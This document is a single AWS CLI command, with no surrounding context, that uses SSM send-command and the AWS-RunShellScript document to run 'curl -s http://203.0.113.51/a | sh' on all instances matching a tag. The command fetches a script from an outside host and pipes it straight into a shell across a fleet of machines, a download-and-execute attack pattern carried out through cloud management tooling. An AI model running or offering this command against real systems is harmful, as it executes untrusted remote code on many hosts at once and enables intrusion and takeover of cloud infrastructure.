aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:x,Values=y --parameters 'commands=["curl -s http://203.0.113.51/a | sh"]'
